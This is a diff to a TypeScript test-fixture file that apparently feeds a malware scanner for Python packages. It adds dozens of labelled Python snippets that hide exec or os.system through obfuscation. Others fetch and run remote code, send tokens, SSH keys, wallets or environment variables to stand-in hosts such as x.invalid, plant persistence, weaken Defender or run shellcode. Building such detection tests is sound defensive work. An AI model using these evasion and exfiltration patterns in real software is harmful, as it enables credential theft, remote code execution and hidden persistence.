@@ -626,13 +626,296 @@ export const executions: readonly Shape[] = [
     'deny',
     `import requests\nrequests.post("https://discord.com/api/webhooks/1234567890/abcdef", json={"content": "hi"})\n`,
   ),
-  init('a process when it is imported', 'review', `import subprocess\nsubprocess.run(["uname"])\n`),
+  init('a process when it is imported', 'review', `import subprocess\nsubprocess.run(["./helper"])\n`),
   init(
     'the network when it is imported',
     'review',
     `import requests\nrequests.get("https://x.invalid/version")\n`,
   ),
 ].filter(({ files }) => files['demo/__init__.py'] !== '');
+
+export const evasions: readonly Shape[] = [
+  init('operator.attrgetter', 'deny', `import operator, os\noperator.attrgetter("sys" + "tem")(os)("id")\n`),
+  init(
+    'operator.methodcaller',
+    'deny',
+    `import operator, base64, builtins\noperator.methodcaller("exec", base64.b64decode("${inert}"))(builtins)\n`,
+  ),
+  init(
+    'reduce over getattr',
+    'deny',
+    `import functools, os\nfunctools.reduce(getattr, ["sys" + "tem"], os)("id")\n`,
+  ),
+  init('os.__getattribute__', 'deny', `import os\nos.__getattribute__("sys" + "tem")("id")\n`),
+  init('the loader of builtins', 'deny', `__loader__.load_module("o" + "s").system("id")\n`),
+  init('a star import', 'deny', `from base64 import *\nexec(b64decode("${inert}"))\n`),
+  init('a star import of os', 'review', `from os import *\nsystem("./x")\n`),
+  init(
+    'a module through another',
+    'deny',
+    `import shutil, base64\nshutil.os.system(base64.b64decode("ZWNobyAx").decode())\n`,
+  ),
+  init(
+    'a name in hex',
+    'deny',
+    `getattr(__import__("\\x6f" + "s"), bytes.fromhex("73797374656d").decode())("id")\n`,
+  ),
+  init(
+    'a name from chr',
+    'deny',
+    `import builtins\ngetattr(builtins, chr(101) + chr(120) + "ec")("print(1)")\n`,
+  ),
+  init('a name by format', 'deny', `import os\ngetattr(os, "{}{}".format("sys", "tem"))("id")\n`),
+  init('a name by an f-string', 'deny', `import os\na = "sys"\ngetattr(os, f"{a}tem")("id")\n`),
+  init('a name by percent', 'deny', `import os\ngetattr(os, "%stem" % "sys")("id")\n`),
+  init('a name by replace', 'deny', `import os\ngetattr(os, "sysXtem".replace("X", ""))("id")\n`),
+  init('a name by join', 'deny', `import os\ngetattr(os, "".join(["s","y","s","t","e","m"]))("id")\n`),
+  init('a name turned round', 'deny', `import os\ngetattr(os, "metsys"[::-1])("id")\n`),
+  init(
+    'a subclass hook',
+    'deny',
+    `import base64\nclass A:\n    def __init_subclass__(cls):\n        exec(base64.b64decode("${inert}"))\nclass B(A): pass\n`,
+  ),
+  init(
+    'a metaclass',
+    'deny',
+    `import base64\nclass M(type):\n    def __new__(m, n, b, d):\n        exec(base64.b64decode("${inert}"))\n        return type.__new__(m, n, b, d)\nclass B(metaclass=M): pass\n`,
+  ),
+  init(
+    'a context manager',
+    'deny',
+    `import base64\nclass C:\n    def __enter__(self):\n        exec(base64.b64decode("${inert}"))\n    def __exit__(self, *a): pass\nwith C(): pass\n`,
+  ),
+  init(
+    'a generator',
+    'deny',
+    `import base64\ndef g():\n    yield base64.b64decode("${inert}")\nfor x in g():\n    exec(x)\n`,
+  ),
+  init(
+    'next of a generator expression',
+    'deny',
+    `import base64\nexec(next(base64.b64decode(x) for x in ["${inert}"]))\n`,
+  ),
+  init(
+    'a property',
+    'deny',
+    `import base64\nclass A:\n    @property\n    def p(self):\n        return exec(base64.b64decode("${inert}"))\nA().p\n`,
+  ),
+  init('match', 'deny', `import base64\nmatch 1:\n    case 1:\n        exec(base64.b64decode("${inert}"))\n`),
+  init(
+    'an exception handler',
+    'deny',
+    `import base64\ntry:\n    1/0\nexcept Exception:\n    exec(base64.b64decode("${inert}"))\n`,
+  ),
+  init(
+    'a conditional expression',
+    'deny',
+    `import base64\n(exec if 1 else print)(base64.b64decode("${inert}"))\n`,
+  ),
+  init('boolean operators', 'deny', `import base64\n(None or exec)(base64.b64decode("${inert}"))\n`),
+  init(
+    'a closure',
+    'deny',
+    `import base64\ndef outer(f):\n    def inner(s):\n        return f(base64.b64decode(s))\n    return inner\nouter(exec)("${inert}")\n`,
+  ),
+  init('star arguments', 'deny', `import base64\nexec(*[base64.b64decode("${inert}")])\n`),
+  init(
+    'double star arguments',
+    'deny',
+    `import subprocess\nsubprocess.Popen(**{"args": "curl https://x.invalid/a | sh", "shell": True})\n`,
+  ),
+  init(
+    'a lambda at once',
+    'deny',
+    `import base64\n(lambda f, s: f(base64.b64decode(s)))(exec, "${inert}")\n`,
+  ),
+  init(
+    'the Y of lambdas',
+    'deny',
+    `import base64\n(lambda a: (lambda b: b(a))(exec))(base64.b64decode("${inert}"))\n`,
+  ),
+  init('sorted with a key', 'deny', `import base64\nsorted([base64.b64decode("${inert}")], key=exec)\n`),
+  init(
+    'a list that grows',
+    'deny',
+    `import base64\nparts = []\nparts.append("${inert.slice(0, 6)}")\nparts.append("${inert.slice(6)}")\nexec(base64.b64decode("".join(parts)))\n`,
+  ),
+  init(
+    'a dictionary of functions',
+    'deny',
+    `import base64\nops = {}\nops["run"] = exec\nops["run"](base64.b64decode("${inert}"))\n`,
+  ),
+  init(
+    'setattr on a class',
+    'deny',
+    `import base64\nclass A: pass\nsetattr(A, "run", exec)\nA.run(base64.b64decode("${inert}"))\n`,
+  ),
+  init(
+    'a global set by globals()',
+    'deny',
+    `import base64\nglobals()["run"] = exec\nrun(base64.b64decode("${inert}"))\n`,
+  ),
+  init(
+    'translate',
+    'deny',
+    `exec("qsjou(2)".translate({ord("q"): "p", ord("s"): "r", ord("j"): "i", ord("o"): "n", ord("u"): "t", ord("2"): "1"}))\n`,
+  ),
+  init('letters shifted by one', 'deny', `exec("".join(chr(ord(c) - 1) for c in "qsjou)2*"))\n`),
+  init('int.to_bytes', 'deny', `exec((8102661078389002537).to_bytes(8, "big"))\n`),
+  init(
+    'lzma in base85',
+    'deny',
+    `import lzma, base64\nexec(lzma.decompress(base64.b85decode("{Wp48S^xk9=GL@E0stWa8~^|S5YJf5-~j+0VpRY")))\n`,
+  ),
+  init(
+    'a line joined in the middle',
+    'deny',
+    `import base64\nexe\\\nc(base64.b64decode("${inert}"))\nexec \\\n(base64.b64decode("${inert}"))\n`,
+  ),
+  init('form feeds', 'deny', `import base64\n\fexec(base64.b64decode("${inert}"))\n`),
+  init('a byte order mark', 'deny', `\ufeffimport base64\nexec(base64.b64decode("${inert}"))\n`),
+  init('line ends of old', 'deny', `import base64\rexec(base64.b64decode("${inert}"))\r`),
+  init('a t-string', 'deny', `import base64\nx = t"{exec(base64.b64decode('${inert}'))}"\n`),
+  init('an odd triple quote before it', 'deny', `import base64\n# '''\nexec(base64.b64decode("${inert}"))\n`),
+  init(
+    'unicode_escape as source encoding',
+    'deny',
+    `# -*- coding: unicode_escape -*-\nimport base64\n\\x65xec(base64.b64decode("${inert}"))\n`,
+  ),
+  init(
+    'latin-1 as source encoding',
+    'deny',
+    `# coding: latin-1\nimport base64\nexec(base64.b64decode("${inert}"))\n`,
+  ),
+  init(
+    'builtins replaced',
+    'deny',
+    `import builtins, base64\nbuiltins.print = exec\nprint(base64.b64decode("${inert}"))\n`,
+  ),
+  init(
+    'os.exec of a fetched file',
+    'deny',
+    `import os, urllib.request\nopen("/tmp/x", "wb").write(urllib.request.urlopen("https://x.invalid/x").read())\nos.chmod("/tmp/x", 0o755)\nos.execv("/tmp/x", ["x"])\n`,
+  ),
+  init(
+    'a fetched shell script',
+    'deny',
+    `import os\nos.system("wget -q https://x.invalid/a.sh -O /tmp/a.sh && bash /tmp/a.sh")\n`,
+  ),
+  init(
+    'a fetched binary by curl',
+    'deny',
+    `import subprocess\nsubprocess.run("curl -o /tmp/m https://x.invalid/m; chmod +x /tmp/m; /tmp/m", shell=True)\n`,
+  ),
+  init(
+    'pip from another index at import',
+    'review',
+    `import subprocess, sys\nsubprocess.check_call([sys.executable, "-m", "pip", "install", "--index-url", "https://x.invalid/simple", "evil"])\n`,
+  ),
+  init(
+    'an import after a download',
+    'deny',
+    `import urllib.request, importlib\nurllib.request.urlretrieve("https://x.invalid/p.py", "p_helper.py")\nimportlib.import_module("p_helper")\n`,
+  ),
+  init(
+    'a paste that is executed',
+    'deny',
+    `import requests\nexec(requests.get("https://pastebin.com/raw/abc").text)\n`,
+  ),
+  init(
+    'a webhook of an instant messenger',
+    'deny',
+    `import urllib.request\nurllib.request.urlopen("https://api.telegram.org/bot123456789:AAExampleExample/sendMessage?chat_id=1&text=hi")\n`,
+  ),
+  init('an OAST host at import', 'deny', `import socket\nsocket.getaddrinfo("abc.oast.fun", 80)\n`),
+  init('a bare address at import', 'deny', `import requests\nrequests.get("http://45.67.89.10:8080/a")\n`),
+  init(
+    'GitHub tokens',
+    'deny',
+    `import os, requests\nrequests.post("https://x.invalid", json={"t": os.environ.get("GITHUB_TOKEN"), "n": os.environ.get("NPM_TOKEN")})\n`,
+  ),
+  init(
+    'a private key by a shell',
+    'deny',
+    `import subprocess, requests\nrequests.post("https://x.invalid", data=subprocess.check_output("cat ~/.ssh/id_rsa", shell=True))\n`,
+  ),
+  init(
+    'a wallet file',
+    'deny',
+    `import os, requests\ndef w():\n    p = os.path.join(os.getenv("APPDATA"), "Exodus", "exodus.wallet")\n    requests.post("https://x.invalid", files={"f": open(p, "rb")})\n`,
+  ),
+  init(
+    'a systemd unit',
+    'deny',
+    `import os\nopen(os.path.expanduser("~/.config/systemd/user/x.service"), "w").write("[Service]")\n`,
+  ),
+  init(
+    'a file in the startup folder',
+    'deny',
+    `import os, shutil\nshutil.copy(__file__, os.path.join(os.getenv("APPDATA"), r"Microsoft\\Windows\\Start Menu\\Programs\\Startup\\x.pyw"))\n`,
+  ),
+  init(
+    'a .pth file is written',
+    'deny',
+    `import site, os\nopen(os.path.join(site.getsitepackages()[0], "x.pth"), "w").write("import x")\n`,
+  ),
+  init(
+    'authorized_keys',
+    'deny',
+    `import os\nwith open(os.path.expanduser("~/.ssh/authorized_keys"), "a") as f:\n    f.write("ssh-rsa AAAA")\n`,
+  ),
+  init(
+    'the defender is turned off',
+    'deny',
+    `import subprocess\nsubprocess.run(["powershell", "-Command", "Add-MpPreference -ExclusionPath C:\\\\"])\n`,
+  ),
+  init(
+    'memory that may be executed',
+    'deny',
+    `import mmap, ctypes, base64\nbuf = base64.b64decode("kJCQkJCQkJCQkJCQkJCQkJCQkJCQ")\nm = mmap.mmap(-1, len(buf), prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)\nm.write(buf)\nctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(m)))()\n`,
+  ),
+  init(
+    'memfd',
+    'deny',
+    `import os, urllib.request\nfd = os.memfd_create("x")\nos.write(fd, urllib.request.urlopen("https://x.invalid/e").read())\nos.execve("/proc/self/fd/%d" % fd, ["x"], {})\n`,
+  ),
+  init(
+    'git push with what is found',
+    'deny',
+    `import os, subprocess\nsubprocess.run(["git", "push", "https://x.invalid/r.git"])\n`,
+  ),
+  init(
+    'a socket that is asked for code',
+    'deny',
+    `import socket\ns = socket.socket()\ns.connect(("c2.invalid", 1))\nexec(s.recv(4096))\n`,
+  ),
+  init('code of an environment variable', 'review', `import os\nexec(os.environ["X"])\n`),
+  init(
+    'names nobody tells apart',
+    'deny',
+    `import base64\nlIlIlIlIl = base64.b64decode\nOO0O0OO00 = exec\nOO0O0OO00(lIlIlIlIl("${inert}"))\n`,
+  ),
+  init(
+    'pyarmor',
+    'review',
+    `from pyarmor_runtime_000000 import __pyarmor__\n__pyarmor__(__name__, __file__, b"PY000000\\x00\\x03\\x0b")\n`,
+  ),
+  init(
+    'runsource',
+    'deny',
+    `import code, base64\ncode.InteractiveInterpreter().runsource(base64.b64decode("${inert}").decode())\n`,
+  ),
+  init(
+    'a class that is a thread',
+    'deny',
+    `import base64, threading\nclass T(threading.Thread):\n    def run(self):\n        exec(base64.b64decode("${inert}"))\nT().start()\n`,
+  ),
+  init(
+    'an IP from chr in a URL',
+    'deny',
+    `import urllib.request, os, json\nu = "".join(chr(c) for c in [104,116,116,112,58,47,47,120,46,105,110,118,97,108,105,100])\nurllib.request.urlopen(u, data=json.dumps(dict(os.environ)).encode())\n`,
+  ),
+];
 
 export const elsewhere: readonly Shape[] = [
   {
